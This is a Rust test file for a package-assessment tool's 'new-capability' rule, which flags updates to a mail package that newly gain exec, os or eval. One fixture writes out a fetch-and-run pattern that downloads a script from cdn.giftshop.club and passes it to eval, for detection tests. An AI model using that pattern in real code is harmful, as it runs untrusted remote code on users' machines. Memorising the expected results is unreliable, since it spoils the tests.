//! Cases of `new-capability`.

use crate::support::{Case, baseline, code, fact, first, lately, mail, release, update, with_history};
use stockade_assess::facts::{Class, Fact};

fn minor(facts: &[Fact]) -> stockade_assess::Subject {
    let mut subject = with_history(mail(), |history| history.releases.push(release("1.1.0", "2025-06-01T00:00:00Z")));
    subject.package.version = Some("1.1.0".into());
    subject.facts = code(facts).into();
    subject
}

fn fetched() -> [Fact; 2] {
    [
        fact(Class::Host, "cdn.giftshop.club", 9).reading("const r = await fetch(\"https://cdn.giftshop.club/x.js\");"),
        fact(Class::DynamicCode, "eval", 10).reading("eval(await r.text());"),
    ]
}

pub(crate) fn cases() -> Vec<Case> {
    let exec = || fact(Class::Capability, "exec", 9).reading("execSync(line)");
    let mut more = mail();
    more.baseline = baseline("1.0.15", code(&[exec()])).into();
    more.facts = code(&[exec(), fact(Class::Capability, "exec", 90)]).into();
    vec![
        Case::new(
            "D4 in a patch",
            &update("acme-mail", &[exec()]),
            &["show/medium/high `acme-mail@1.0.16` can do what 1.0.15 could not: `exec`"],
        ),
        Case::new(
            "D4 in a patch, beside a secret",
            &update("acme-mail", &[exec(), fact(Class::Environment, "AWS_SECRET_ACCESS_KEY", 9)]),
            &["hold/medium/high `acme-mail@1.0.16` can do what 1.0.15 could not: `exec`"],
        ),
        Case::new(
            "D4 in a minor release",
            &minor(&[exec()]),
            &["show/medium/high `acme-mail@1.1.0` can do what 1.0.15 could not: `exec`"],
        ),
        Case::new(
            "D4, a common one",
            &update("acme-mail", &[fact(Class::Capability, "os", 9)]),
            &["show/medium/high `acme-mail@1.0.16` can do what 1.0.15 could not: `os`"],
        ),
        Case::new(
            "D5",
            &update("acme-mail", &[fact(Class::DynamicCode, "eval", 9)]),
            &["show/medium/high `acme-mail@1.0.16` can do what 1.0.15 could not: `eval`"],
        ),
        Case::new(
            "one more place",
            &more,
            &["show/info/high `acme-mail@1.0.16` does more often what 1.0.15 did before: `exec`"],
        ),
        Case::new("nothing to compare with", &first("acme-mail", &[exec()]), &[]),
        Case::new(
            "fetched and run, in a minor release",
            &minor(&fetched()),
            &["hold/medium/high `acme-mail@1.1.0` can do what 1.0.15 could not: `eval`"],
        ),
        Case::new(
            "fetched and run, one more release after it",
            &lately("acme-mail", &fetched()),
            &["hold/medium/high `acme-mail@1.0.16` can do what 1.0.14 could not: `eval`"],
        ),
        Case::new(
            "fetched and run, at first sight",
            &first("acme-mail", &fetched()),
            &["show/medium/high `acme-mail@1.0.16` fetches text and runs it"],
        ),
        Case::new("nothing new", &mail(), &[]),
    ]
}
